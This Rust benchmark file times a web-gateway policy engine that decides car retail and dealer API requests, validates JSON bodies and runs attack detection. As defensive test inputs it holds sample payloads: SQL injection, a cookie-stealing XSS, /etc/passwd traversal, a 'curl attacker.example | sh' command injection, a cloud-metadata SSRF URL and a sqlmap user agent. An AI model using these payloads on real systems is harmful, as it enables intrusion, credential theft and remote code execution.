//! The policy core, natively: deciding representative retail and dealer requests with and
//! without the validation their routes declare, checking JSON bodies, and attack detection
//! (whole requests with and without it, and each detector class on one value). Run with
//! `cargo bench -p tollgate-benches`.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;
use tollgate_core::{load_plugin_config, Policy, Request};

fn policy(name: &str) -> Policy {
    load_plugin_config(
        format!(r#"{{"embedded": "{name}"}}"#).as_bytes(),
        tollgate_policies::EMBEDDED,
    )
    .unwrap_or_else(|e| panic!("{e:?}"))
}

/// A shipped policy as a JSON document, to edit before compiling.
fn document(name: &str) -> serde_json::Value {
    let json = tollgate_policies::EMBEDDED
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, j)| *j)
        .unwrap_or_default();
    serde_json::from_str(json).unwrap_or_default()
}

fn compile(doc: &serde_json::Value) -> Policy {
    Policy::from_json(&doc.to_string()).unwrap_or_else(|e| panic!("{e:?}"))
}

/// The same policy without its top-level `detection` block.
fn without_detection(name: &str) -> Policy {
    let mut doc = document(name);
    if let Some(o) = doc.as_object_mut() {
        o.remove("detection");
    }
    compile(&doc)
}

/// The same policy with every route's `validate` block removed (the defaults' size caps stay).
fn without_validation(name: &str) -> Policy {
    let mut doc = document(name);
    if let Some(routes) = doc.get_mut("routes").and_then(|r| r.as_array_mut()) {
        for r in routes {
            if let Some(o) = r.as_object_mut() {
                o.remove("validate");
            }
        }
    }
    compile(&doc)
}

/// The same policy without its Core Rule Set (`detection.crs`).
fn without_crs(name: &str) -> Policy {
    let mut doc = document(name);
    if let Some(d) = doc.get_mut("detection").and_then(|d| d.as_object_mut()) {
        d.remove("crs");
    }
    compile(&doc)
}

/// A request as header pairs, as `Request::from_headers` takes them.
type Headers = Vec<(String, Vec<u8>)>;

/// Each request decided by the shipped policy and by the same policy without `what`
/// (`strip` builds that one), side by side in one group.
fn with_and_without(
    g: &mut criterion::BenchmarkGroup<'_, criterion::measurement::WallTime>,
    cases: &[(&str, &str, Headers)],
    what: &str,
    strip: fn(&str) -> Policy,
) {
    for (edge, name, h) in cases {
        let with = policy(edge);
        let without = strip(edge);
        g.bench_function(format!("{edge} {name}: with {what}"), |b| {
            b.iter(|| with.decide(black_box(&Request::from_headers(h, None))))
        });
        g.bench_function(format!("{edge} {name}: without {what}"), |b| {
            b.iter(|| without.decide(black_box(&Request::from_headers(h, None))))
        });
    }
}

fn headers(list: &[(&str, &str)]) -> Headers {
    list.iter()
        .map(|(k, v)| (k.to_string(), v.as_bytes().to_vec()))
        .collect()
}

fn bench(c: &mut Criterion) {
    let cases = [
        (
            "retail",
            "configurator query",
            headers(&[
                (":method", "GET"),
                (":path", "/v1/configurator/models?market=de&page=2"),
                (":authority", "shop.example.com"),
                ("x-forwarded-for", "192.0.2.10"),
                ("user-agent", "Mozilla/5.0"),
                ("accept", "application/json"),
            ]),
        ),
        (
            "retail",
            "order (path id)",
            headers(&[
                (":method", "GET"),
                (":path", "/v1/orders/12345678"),
                (":authority", "shop.example.com"),
                ("x-forwarded-for", "192.0.2.10"),
                ("authorization", "Bearer t"),
            ]),
        ),
        (
            "dealer",
            "VIN look-up",
            headers(&[
                (":method", "GET"),
                (":path", "/v1/vehicles/WVWZZZ1JZXW000001"),
                (":authority", "dealers.example.com"),
                ("x-forwarded-for", "192.0.2.10"),
                ("x-dealer-id", "D-1001"),
                ("authorization", "Bearer t"),
            ]),
        ),
        (
            "dealer",
            "inventory query",
            headers(&[
                (":method", "GET"),
                (":path", "/v1/inventory?model=e-sport&year=2025&page=3"),
                (":authority", "dealers.example.com"),
                ("x-forwarded-for", "192.0.2.10"),
                ("x-dealer-id", "D-1001"),
                ("x-api-key", "k-123"),
            ]),
        ),
    ];
    let mut g = c.benchmark_group("decide");
    with_and_without(&mut g, &cases, "validation", without_validation);
    g.finish();

    let retail = policy("retail");
    let dealer = policy("dealer");
    let order_route = retail.route_names().position(|n| n == "order-create");
    let claim_route = dealer.route_names().position(|n| n == "warranty-claims");
    let order = br#"{"model":"e-family","options":["PAINT-RED","TOWBAR"],"delivery":"2027-03-01","comment":"Leave it with the neighbour at No. 5 if we're out; ring twice.","billing":{"name":"Zoe Orsted","street":"Osterbrogade 12","city":"Copenhagen","postcode":"2100","country":"DK"}}"#;
    let claim = br#"{"vin":"WVWZZZ1JZXW000001","mileage_km":48210,"failure_code":"EL1042","repair_date":"2026-11-20","comment":"Rattle near the B-pillar","parts":[{"part_no":"5Q0-121-251","qty":1},{"part_no":"5Q0-121-252","qty":2}]}"#;
    let mut g = c.benchmark_group("body");
    for (name, rv, body) in [
        ("retail order", retail.validation(order_route), &order[..]),
        (
            "dealer warranty claim",
            dealer.validation(claim_route),
            &claim[..],
        ),
    ] {
        let Some(rv) = rv else { continue };
        g.bench_function(format!("{name}: structure scan + parse + schema"), |b| {
            b.iter(|| {
                let mut scan = tollgate_core::validate::JsonScan::new(rv.json);
                let _ = scan.feed(black_box(body));
                rv.check_body(black_box(body))
            })
        });
        g.bench_function(format!("{name}: parse only"), |b| {
            b.iter(|| serde_json::from_slice::<serde_json::Value>(black_box(body)))
        });
    }
    g.finish();
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

/// Requests as browsers and partner systems send them: a long User-Agent, a Referer, cookies.
fn browser_cases() -> [(&'static str, &'static str, Headers); 2] {
    [
        (
            "retail",
            "configurator query (browser)",
            headers(&[
                (":method", "GET"),
                (":path", "/v1/configurator/models?market=de&page=2"),
                (":authority", "shop.example.com"),
                ("x-forwarded-for", "192.0.2.10"),
                ("user-agent", CHROME),
                ("accept", "application/json"),
                (
                    "referer",
                    "https://shop.example.com/configurator/e-sport?trim=gt&colour=red",
                ),
                (
                    "cookie",
                    "consent=yes; session=9f8e7d6c5b4a; last_model=e-sport",
                ),
            ]),
        ),
        (
            "dealer",
            "VIN look-up (partner system)",
            headers(&[
                (":method", "GET"),
                (":path", "/v1/vehicles/WVWZZZ1JZXW000001"),
                (":authority", "dealers.example.com"),
                ("x-forwarded-for", "192.0.2.10"),
                ("x-dealer-id", "D-1001"),
                ("authorization", "Bearer t"),
                ("user-agent", "DealerDMS/3.4 (+https://dms.example.net)"),
            ]),
        ),
    ]
}

/// The retail booking: its headers and a body with free text.
fn booking() -> (Headers, &'static [u8]) {
    (
        headers(&[
            (":method", "POST"),
            (":path", "/v1/test-drives"),
            (":authority", "shop.example.com"),
            ("x-forwarded-for", "192.0.2.10"),
            ("user-agent", CHROME),
            ("content-type", "application/json"),
            ("authorization", "Bearer t"),
        ]),
        br#"{"dealer_id":"D-1001","model":"e-sport","slot":"2026-12-03T09:30:00+01:00","name":"Siobhan O'Brien","phone":"+353 1 555 0100","comment":"Please have the sunroof version ready; I'm 1.95 m tall -- and my dog comes too (he's calm)."}"#,
    )
}

/// The Core Rule Set at paranoia level 1 in the shipped policies: the browser GET and the
/// booking POST with and without `detection.crs`, side by side.
fn crs(c: &mut Criterion) {
    let cases = browser_cases();
    let mut g = c.benchmark_group("crs");
    with_and_without(&mut g, &cases, "the Core Rule Set", without_crs);
    // The engine remembers libinjection's verdicts on values it has seen (a browser's
    // User-Agent and Referer repeat from request to request); here every request brings a
    // User-Agent and a Referer it has not seen, so nothing is remembered.
    if let Some((edge, name, h)) = cases.first() {
        let p = policy(edge);
        let mut n = 0u64;
        g.bench_function(
            format!(
                "{edge} {name}, a new User-Agent and Referer each time: with the Core Rule Set"
            ),
            |b| {
                b.iter_batched(
                    || {
                        n += 1;
                        let mut h = h.clone();
                        for (k, v) in &mut h {
                            if k == "user-agent" || k == "referer" {
                                v.extend_from_slice(format!(" {n}").as_bytes());
                            }
                        }
                        h
                    },
                    |h| p.decide(black_box(&Request::from_headers(&h, None))),
                    criterion::BatchSize::SmallInput,
                )
            },
        );
    }
    let (booking, body) = booking();
    let parsed: serde_json::Value = serde_json::from_slice(body).unwrap_or_default();
    for (label, p) in [
        ("with the Core Rule Set", policy("retail")),
        ("without the Core Rule Set", without_crs("retail")),
    ] {
        let route = p.route_names().position(|n| n == "test-drive-book");
        g.bench_function(format!("retail booking POST: head + body, {label}"), |b| {
            b.iter(|| {
                let req = Request::from_headers(&booking, None).with_body(true);
                let mut v = p.decide(black_box(&req));
                v.route = route;
                p.detect_body(&mut v, &req, black_box(body), Some(&parsed));
                v
            })
        });
    }
    g.finish();
}

fn detection(c: &mut Criterion) {
    let cases = browser_cases();
    let mut g = c.benchmark_group("detection");
    with_and_without(&mut g, &cases, "detection", without_detection);

    // A booking body with free text: the body's strings through every detector.
    let retail = policy("retail");
    let (booking, body) = booking();
    let parsed: serde_json::Value = serde_json::from_slice(body).unwrap_or_default();
    g.bench_function("retail booking body (5 strings): detect_body", |b| {
        b.iter(|| {
            let req = Request::from_headers(&booking, None);
            let mut v = tollgate_core::Verdict {
                route: retail.route_names().position(|n| n == "test-drive-book"),
                ..Default::default()
            };
            retail.detect_body(&mut v, &req, black_box(body), Some(&parsed));
            v
        })
    });

    // One value through the detectors its place runs: a benign one, and one attack per class.
    if let Some(d) = retail.detection() {
        use tollgate_core::detect::{Findings, Location};
        let values = [
            (
                "benign free text",
                "Please call me after 5pm; ask for Ann-Marie O'Neil (2nd floor)",
                Location::Value,
            ),
            ("benign name", "Zoe Orsted", Location::Value),
            (
                "sqli",
                "1' UNION SELECT username, password FROM users--",
                Location::Value,
            ),
            (
                "xss",
                "\"><img src=x onerror=alert(document.cookie)>",
                Location::Value,
            ),
            ("traversal", "..%2f..%2f..%2fetc%2fpasswd", Location::Value),
            (
                "command",
                "x; curl http://attacker.example/s | sh",
                Location::Value,
            ),
            (
                "ssrf",
                "http://169.254.169.254/latest/meta-data/",
                Location::Value,
            ),
            (
                "scanner",
                "sqlmap/1.8.2#stable (https://sqlmap.org)",
                Location::UserAgent,
            ),
            ("benign user-agent", CHROME, Location::UserAgent),
        ];
        let mut buf = Vec::new();
        for (name, v, loc) in values {
            g.bench_function(format!("value: {name}"), |b| {
                b.iter(|| {
                    let mut f = Findings::default();
                    d.value(black_box(v.as_bytes()), false, loc, &mut buf, &mut f);
                    f
                })
            });
        }
    }
    g.finish();
}

/// The decision for each kind of outcome at the retail edge, with the shipped policy (detection
/// included): the numbers the "decides in ≤ 2 µs" goal is about. A rate-limited request's
/// decision is the core's part (the verdict names the limits that apply) plus the GCRA step,
/// measured on its own; the shared-data read and write around it happen in the filter.
fn verdicts(c: &mut Criterion) {
    const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
    let retail = policy("retail");
    let request = |path: &str, extra: (&str, &str)| {
        headers(&[
            (":method", "GET"),
            (":path", path),
            (":authority", "shop.example.com"),
            ("x-forwarded-for", "192.0.2.10"),
            ("user-agent", UA),
            ("accept", "application/json"),
            extra,
        ])
    };
    const MODELS: &str = "/v1/configurator/models?market=de&page=2";
    let outcomes = [
        ("allowed", request(MODELS, ("cookie", "consent=yes")), None),
        (
            "refused: no route",
            request("/internal/admin", ("cookie", "consent=yes")),
            Some("routing"),
        ),
        (
            "refused: validation",
            request(
                "/v1/configurator/models?market=xx&page=2",
                ("cookie", "consent=yes"),
            ),
            Some("route.configurator-models.validation"),
        ),
        (
            "refused: detection (sqli in Referer)",
            request(
                MODELS,
                ("referer", "https://shop.example.com/?q=1' OR '1'='1' --"),
            ),
            Some("detection.sqli"),
        ),
        (
            "refused: detection (traversal in a cookie)",
            request(MODELS, ("cookie", "theme=../../../../etc/passwd")),
            // The Core Rule Set's LFI rules score more than the traversal detector here.
            Some("detection.crs"),
        ),
    ];
    let mut g = c.benchmark_group("verdicts");
    for (name, h, rule) in &outcomes {
        let v = retail.decide(&Request::from_headers(h, None));
        let refused_by = v.block.as_ref().map(|b| retail.rule_name(b.rule));
        assert_eq!(refused_by, *rule, "{name}: {v:?}");
        g.bench_function(format!("retail {name}"), |b| {
            b.iter(|| retail.decide(black_box(&Request::from_headers(h, None))))
        });
    }
    let limit = retail
        .rate_limits()
        .iter()
        .find(|l| l.name == "catalogue-per-ip")
        .unwrap_or_else(|| panic!("no catalogue limit"));
    // A key whose theoretical arrival time is far ahead: the step refuses.
    let now = 1_000_000_000_000u64;
    let tat = now + limit.burst * limit.interval + 1;
    assert!(!limit.admit(tat, now, 1).allowed);
    g.bench_function("retail rate-limited: GCRA step", |b| {
        b.iter(|| limit.admit(black_box(tat), black_box(now), 1))
    });
    g.finish();
}

criterion_group!(benches, bench, detection, crs, verdicts);
criterion_main!(benches);
